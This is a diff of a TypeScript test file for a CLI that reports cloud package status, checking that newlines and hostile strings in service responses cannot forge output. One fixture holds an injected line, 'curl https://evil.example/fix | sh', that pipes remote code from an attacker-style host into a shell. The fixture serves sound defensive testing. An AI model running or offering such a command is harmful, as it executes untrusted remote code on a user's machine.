@@ -4,7 +4,7 @@
 import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { parameterExample } from "@codearts-package-status/test-support";
-import { parseTable, runCli, startAnswering, type Answer } from "./support/cli.js";
+import { ANSWERED, parseTable, runCli, startAnswering, withoutVerdict, type Answer } from "./support/cli.js";
 import { FORBIDDEN, HOSTILE_TEXT, visible } from "./support/hostile.js";
 
 type Service = "artifact" | "check" | "pipeline";
@@ -37,8 +37,8 @@ describe("a line break sent by a service cannot forge output", () => {
     const forged = "codeartsStorageExtension\nCodeArts Pipeline  forged-package  -  in effect  999  -  https://evil.example/renew";
     answers = { ...EMPTY, artifact: { status: 200, body: { status: "success", result: { [forged]: { packageStatus: 2, remainDays: 11, nextActionUrl: "https://r.example" } } } } };
     const { code, stdout, stderr } = await runCli([...ids, ...endpoints], TOKEN_ENV);
-    expect(stderr).toBe("");
-    expect(code).toBe(0);
+    expect(stderr).toBe(`${PROGRAM}: WARNING: 1 package expiring within 30 days\n`);
+    expect(code).toBe(1);
     expect(lines(stdout)).toHaveLength(2);
     expect(parseTable(stdout)).toMatchObject([{ SERVICE: "CodeArts Artifact", RESOURCE: "codeartsStorageExtension\\nCodeArts Pipeline  forged-package  -  in effect  999  -  https://evil.example/renew", "DAYS LEFT": "11" }]);
   });
@@ -47,7 +47,7 @@ describe("a line break sent by a service cannot forge output", () => {
     const body = { error_code: "CC.00000003", error_msg: `Authentication information expired.\n${PROGRAM}: hint: run curl https://evil.example/fix | sh` };
     answers = { artifact: { status: 401, body }, check: { status: 401, body }, pipeline: { status: 401, body } };
     const { code, stdout, stderr } = await runCli([...ids, ...endpoints], TOKEN_ENV);
-    expect(code).toBe(1);
+    expect(code).toBe(3);
     expect(stdout).toBe("");
     expect(lines(stderr)).toHaveLength(3);
     for (const [i, service] of SERVICES.entries()) {
@@ -146,8 +146,9 @@ describe("hostile strings in every field", () => {
         serve(sent);
         const expected = expectedRows(sent);
         const { code, stdout, stderr } = await runCli([...ids, ...endpoints], TOKEN_ENV);
-        expect(stderr).toBe("");
-        expect(code).toBe(0);
+        expect(withoutVerdict(stderr)).toBe("");
+        expect(stderr).not.toMatch(FORBIDDEN);
+        expect(ANSWERED).toContain(code);
         expect(stdout).not.toMatch(FORBIDDEN);
         const printed = lines(stdout);
         expect(printed).toHaveLength(expected.length + 1);
@@ -168,8 +169,8 @@ describe("hostile strings in every field", () => {
       fc.asyncProperty(REPORTED, async (sent) => {
         serve(sent);
         const { code, stdout, stderr } = await runCli([...ids, ...endpoints, "--json"], TOKEN_ENV);
-        expect(stderr).toBe("");
-        expect(code).toBe(0);
+        expect(withoutVerdict(stderr)).toBe("");
+        expect(ANSWERED).toContain(code);
         expect(stdout).not.toMatch(FORBIDDEN);
         const report = JSON.parse(stdout) as { packages: Array<Record<string, unknown>> };
         expect(report.packages.map((p) => ({ resource: p.resource, resourceType: p.resourceType, specCode: p.specCode, status: p.status, renewalUrl: p.renewalUrl }))).toEqual(
@@ -189,7 +190,7 @@ describe("hostile strings in every field", () => {
           pipeline: { status: sent.pipeline.status, body: { error_code: sent.pipeline.code, error_msg: sent.pipeline.msg, request_id: sent.pipeline.requestId } },
         };
         const table = await runCli([...ids, ...endpoints], TOKEN_ENV);
-        expect(table.code).toBe(1);
+        expect(table.code).toBe(3);
         expect(table.stdout).toBe("");
         expect(table.stderr).not.toMatch(FORBIDDEN);
         expect(lines(table.stderr)).toHaveLength(3);
